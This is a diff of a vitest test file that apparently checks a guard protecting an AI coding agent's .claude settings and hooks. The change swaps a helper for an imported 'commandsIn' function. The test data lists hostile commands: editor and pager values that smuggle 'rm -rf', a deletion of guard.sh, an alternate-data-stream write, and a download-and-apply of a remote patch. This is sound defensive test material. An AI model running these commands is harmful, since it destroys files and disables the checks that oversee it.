@@ -3,13 +3,7 @@
 
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { isLarge } from '../../property/runs.js'
-import { GuardedProject, verdictOf } from './guarded-project.js'
-
-const lines = (text: string): [string][] =>
-  text
-    .trim()
-    .split('\n')
-    .map((line) => [line.replaceAll('⏎', '\n')])
+import { commandsIn, GuardedProject, verdictOf } from './guarded-project.js'
 
 const project = new GuardedProject()
 const DIFF = '--- a/.claude/settings.json\n+++ b/.claude/settings.json\n@@ -1 +1 @@\n-x\n+y\n'
@@ -23,7 +17,7 @@ beforeAll(() => {
 afterAll(() => project.remove())
 
 it.each(
-  lines(String.raw`
+  commandsIn(String.raw`
 GIT_EDITOR='rm -rf .claude' git commit
 EDITOR="sh -c 'rm -rf .'" git rebase -i HEAD~2
 git -c core.pager='rm -rf .claude' log
@@ -85,7 +79,7 @@ systemd-run rm -rf .claude
 })
 
 it.each(
-  lines(`
+  commandsIn(`
 echo x > '.claude/settings.json::$DATA'
 CDPATH=.claude cd hooks && rm guard.sh
 curl -o new.patch https://example.org/x; git apply new.patch
@@ -101,7 +95,7 @@ git config include.path x
 })
 
 it.each(
-  lines(`
+  commandsIn(`
 git apply good.patch
 patch -p1 < good.patch
 git apply --check bad.patch
